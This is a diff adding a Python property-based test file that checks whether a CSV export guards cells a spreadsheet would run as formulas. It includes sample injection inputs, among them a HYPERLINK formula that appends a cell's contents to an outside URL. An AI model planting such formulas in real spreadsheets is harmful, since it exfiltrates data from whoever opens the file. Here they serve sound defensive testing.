@@ -1,0 +1,68 @@
+"""Cells that a spreadsheet would run as formulas: guarded for every separator, and restored when they are read."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from docsplit_hf.reading.spreadsheet_cells import harmless_cell, original_cell
+
+NASTY = st.text(st.sampled_from("'=+-@＝\t\r\n ;,\"a1\u00a0"), max_size=8) | st.text()
+NUMBERS = st.integers().map(str) | st.floats(allow_nan=False, allow_infinity=False).map(str)
+
+
+def is_number(cell):
+    try:
+        float(cell.replace(",", ".").rstrip("%"))
+    except ValueError:
+        return False
+    return True
+
+
+def is_formula(cell):
+    """Whether a spreadsheet may take a cell for a formula, by OWASP's list."""
+    return not is_number(cell) and cell.lstrip().startswith(tuple("=+-@＝＋－＠"))
+
+
+@given(NASTY)
+@example('=HYPERLINK("http://example.org/?"&A1)')
+@example("'=1")
+@example("''=1")
+@example("'\t=1")
+@example("a;'=1;''=2")
+def test_cells_are_guarded_and_restored(text):
+    safe = harmless_cell(text)
+    assert not is_formula(safe) and not safe.startswith(("\t", "\r", "\n"))
+    assert original_cell(safe) == text
+
+
+@given(NUMBERS | st.sampled_from(["-1.5", "+1", "-1,234.5", "-0.1e-5", "-12%", "-.5"]))
+def test_numbers_are_not_guarded(number):
+    assert harmless_cell(number) == number == original_cell(number)
+
+
+@pytest.mark.parametrize("text", ["", "a - b", "e-mail", "a=b", "don't", "'quoted'", "1. -2", "3+4", "a@example.org"])
+def test_other_texts_are_unchanged(text):
+    assert harmless_cell(text) == text == original_cell(text)
+
+
+@pytest.mark.parametrize("text", ["-1+1", "+49 170 1", "-5 ;=1", "- a point", "-A1", "-1e", "@SUM(1)", "\u00a0=1"])
+def test_formulas_similar_to_numbers_or_texts_are_guarded(text):
+    assert harmless_cell(text).startswith("'")
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@given(rows=st.lists(st.lists(NASTY, min_size=2, max_size=3), min_size=1, max_size=3))
+@example(rows=[["-1", ""]])
+@example(rows=[["a", "b;=1"], ["a", "b\n=1"], ["a", "b\r\n- c"], ["a", "b\t@c"], ["a", 'b;"=1'], ["a;", "=1"]])
+def test_a_spreadsheet_with_another_separator_finds_no_formula_either(separator, rows):
+    file = io.StringIO()
+    writer = csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_ALL)
+    writer.writerows([[harmless_cell(text) for text in row] for row in rows])
+    lines = io.StringIO(file.getvalue(), newline="")
+    cells = [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
+    # With another separator a number and the cells after it are one cell, such as -1,"": no valid formula, as the cells
+    # after the comma are guarded.
+    assert not [cell for cell in cells if is_formula(cell) and not is_number(cell.partition(",")[0])]
